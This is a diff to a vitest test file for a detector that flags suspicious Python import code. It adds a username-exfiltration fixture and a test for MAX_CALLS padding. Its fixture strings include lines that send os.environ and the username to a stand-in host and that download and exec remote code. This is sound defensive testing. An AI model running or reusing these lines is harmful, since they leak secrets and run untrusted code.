@@ -6,7 +6,7 @@
  */
 import { readdirSync, readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
-import { IMPORT_FLAGS, readImportCode } from '../../src/checks/lib/import-code.js';
+import { IMPORT_FLAGS, MAX_CALLS, readImportCode } from '../../src/checks/lib/import-code.js';
 
 const GUARDDOG = new URL('../../fixtures/import-code/guarddog/', import.meta.url);
 
@@ -81,6 +81,7 @@ describe('what each flag is for', () => {
     ['exec-decoded', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'],
     ['download-and-run', 'import requests\npayload = requests.get("http://x.test/s").text\nexec(payload)\n'],
     ['exfiltration', 'import requests, os\nrequests.post("https://x.test", json=dict(os.environ))\n'],
+    ['exfiltration', 'import getpass as _g, urllib.request as _u\nd = {"u": _g.getuser()}\n_u.urlopen(_u.Request("https://x.test", data=str(d).encode()))\n'],
     ['silent-process', 'import subprocess\nsubprocess.Popen(["pythonw", "x.py"], creationflags=subprocess.CREATE_NO_WINDOW)\n'],
     ['dynamic-import', 'm = __import__("so"[::-1])\n'],
     ['obfuscation', '___ = eval\n'],
@@ -107,6 +108,15 @@ describe('what each flag is for', () => {
     expect(reading.flags).toEqual(IMPORT_FLAGS.filter((f) => reading.flags.includes(f)));
     expect(reading.flags).toEqual(['exfiltration', 'download-and-run', 'exec-decoded']);
     expect(reading.excerpts.every((e) => e.length <= 160 && !e.includes('\n'))).toBe(true);
+  });
+});
+
+describe('a text padded with calls', () => {
+  it('past MAX_CALLS the reading says it is not complete; a flag found before stays', () => {
+    const padding = 'eval("1")\n'.repeat(MAX_CALLS + 1);
+    expect(readImportCode(padding)).toMatchObject({ flags: [], complete: false });
+    expect(readImportCode(`import base64\nexec(base64.b64decode("eA=="))\n${padding}`)).toMatchObject({ flags: ['exec-decoded'], complete: false });
+    expect(readImportCode('eval("1")\n'.repeat(MAX_CALLS)).complete).toBe(true);
   });
 });
 
